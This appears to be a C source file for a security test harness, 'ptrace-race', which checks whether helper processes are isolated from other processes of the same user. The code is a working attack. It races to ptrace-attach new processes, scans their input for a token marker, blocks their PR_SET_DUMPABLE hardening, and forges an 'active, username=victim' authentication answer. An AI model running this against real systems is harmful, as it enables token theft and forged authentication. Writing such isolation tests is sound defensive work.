/*
 * ptrace-race USER MARKER: the attacker of the helper-isolation test. Run
 * as root, it drops to USER (the module's helper_user) and does what any
 * process of that user could: watch for new processes, try to PTRACE_SEIZE
 * each one that runs as USER the moment it appears, and, for every one it
 * catches, follow its system calls and look for MARKER (a string in the
 * token) in what it reads and rewrite what it answers, skipping its
 * prctl(PR_SET_DUMPABLE, 0) so that it stays readable. It runs until its standard input closes,
 * then prints one line:
 *
 *   seen N attached N secrets N forged N
 *
 * seen: processes of USER found (attached or refused); attached: seized;
 * secrets: those whose reads held MARKER; forged: answers rewritten to
 * "active, username=victim" (x86-64 only). The test wants attached = 0.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <pwd.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define PID_SPAN 4194304 /* pid_max's ceiling */

static unsigned char *done; /* one byte per pid: looked at already */
static long seen, attached, secrets, forgeries;

static long last_pid(void)
{
	char buf[32];
	ssize_t n;
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	return strtol(buf, NULL, 10);
}

/* The real uid of pid, from /proc; -1 when gone. */
static long real_uid(pid_t pid)
{
	char path[64], buf[4096], *p;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	p = strstr(buf, "\nUid:");
	return p ? strtol(p + 5, NULL, 10) : -1;
}

/* Copies len bytes at addr of a stopped tracee (PTRACE_PEEKDATA works for any tracer). */
static size_t peek(pid_t pid, unsigned long addr, char *out, size_t len)
{
	size_t got = 0;

	while (got < len) {
		long word;
		size_t n = len - got < sizeof(word) ? len - got : sizeof(word);

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + got), NULL);
		if (errno != 0)
			break;
		memcpy(out + got, &word, n);
		got += n;
	}
	return got;
}

/* What a caught helper is made to answer: active, and the user is the victim. */
static const char forged[] = "apitoken-introspect-response 1\nstatus 2\nok\n"
			     "claim.active 2\nb1\nclaim.username 7\nsvictim\nend\n";

/* Writes len bytes at addr of a stopped tracee, a word at a time. */
static int poke(pid_t pid, unsigned long addr, const char *data, size_t len)
{
	for (size_t off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		size_t n = len - off < sizeof(word) ? len - off : sizeof(word);

		if (n < sizeof(word)) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + off), NULL);
			if (errno != 0)
				return -1;
		}
		memcpy(&word, data + off, n);
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) != 0)
			return -1;
	}
	return 0;
}

/*
 * Follows a seized process to its end: takes what it reads on fd 0 (the
 * request, with the token) and swaps what it writes on fd 1 (its answer)
 * for the forged one. True when MARKER was among what it read.
 */
static bool follow(pid_t pid, const char *marker)
{
	static char data[1 << 16];
	unsigned long long nr = 0, fd = 0, addr = 0;
	bool found = false;
	int status;

	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) != 0)
		return false;
	while (waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status)) {
		struct __ptrace_syscall_info si;
		int sig = 0;

		if (WIFSTOPPED(status) && WSTOPSIG(status) == (SIGTRAP | 0x80) &&
		    ptrace(PTRACE_GET_SYSCALL_INFO, pid, (void *)sizeof(si), &si) > 0) {
			if (si.op == PTRACE_SYSCALL_INFO_ENTRY) {
				nr = si.entry.nr;
				fd = si.entry.args[0];
				addr = si.entry.args[1];
#if defined(__x86_64__)
				struct user_regs_struct r;

				/* Skip its prctl(PR_SET_DUMPABLE, 0): it stays readable. */
				if (nr == SYS_prctl && fd == PR_SET_DUMPABLE &&
				    ptrace(PTRACE_GETREGS, pid, NULL, &r) == 0) {
					r.orig_rax = (unsigned long long)-1;
					ptrace(PTRACE_SETREGS, pid, NULL, &r);
				}
				if (nr == SYS_write && fd == 1) {
					if (ptrace(PTRACE_GETREGS, pid, NULL, &r) == 0 &&
					    poke(pid, addr, forged, sizeof(forged) - 1) == 0) {
						r.rdx = sizeof(forged) - 1;
						ptrace(PTRACE_SETREGS, pid, NULL, &r);
						forgeries++;
					}
				}
#endif
			} else if (si.op == PTRACE_SYSCALL_INFO_EXIT && nr == SYS_read && fd == 0 &&
				   si.exit.rval > 0) {
				size_t n = (size_t)si.exit.rval < sizeof(data)
					       ? (size_t)si.exit.rval
					       : sizeof(data);
				n = peek(pid, addr, data, n);
				if (memmem(data, n, marker, strlen(marker)) != NULL)
					found = true;
			}
		} else if (WIFSTOPPED(status) && WSTOPSIG(status) != SIGTRAP &&
			   WSTOPSIG(status) != (SIGTRAP | 0x80) &&
			   (status >> 16) != PTRACE_EVENT_STOP) {
			sig = WSTOPSIG(status);
		}
		if (ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig) != 0)
			break;
	}
	return found;
}

static void try_pid(pid_t pid, uid_t uid, const char *marker)
{
	long ruid;

	if (pid <= 1 || pid >= PID_SPAN || done[pid] || pid == getpid())
		return;
	if (ptrace(PTRACE_SEIZE, pid, NULL, (void *)(long)PTRACE_O_TRACESYSGOOD) == 0) {
		done[pid] = 1;
		seen++;
		attached++;
		if (follow(pid, marker))
			secrets++;
		return;
	}
	if (errno == ESRCH)
		return; /* not there yet: try again next round */
	/* There, but refused: count it if it is one of the user's. */
	ruid = real_uid(pid);
	if (ruid < 0)
		return;
	if ((uid_t)ruid == uid) {
		done[pid] = 1;
		seen++;
	}
}

int main(int argc, char **argv)
{
	struct passwd *pw;
	struct pollfd in = {0, POLLIN, 0};

	if (argc != 3) {
		fprintf(stderr, "usage: ptrace-race USER MARKER\n");
		return 2;
	}
	pw = getpwnam(argv[1]);
	if (pw == NULL || setgroups(0, NULL) != 0 ||
	    setresgid(pw->pw_gid, pw->pw_gid, pw->pw_gid) ||
	    setresuid(pw->pw_uid, pw->pw_uid, pw->pw_uid) != 0) {
		fprintf(stderr, "ptrace-race: cannot become %s\n", argv[1]);
		return 2;
	}
	done = calloc(PID_SPAN, 1);
	if (done == NULL)
		return 2;
	for (;;) {
		long last = last_pid();

		/* New processes get the next pids: watch the newest few, tightly. */
		for (long p = last - 4; last > 0 && p <= last + 8; p++)
			try_pid((pid_t)p, pw->pw_uid, argv[2]);
		if (poll(&in, 1, 0) > 0)
			break;
	}
	printf("seen %ld attached %ld secrets %ld forged %ld\n", seen, attached, secrets,
	       forgeries);
	return 0;
}
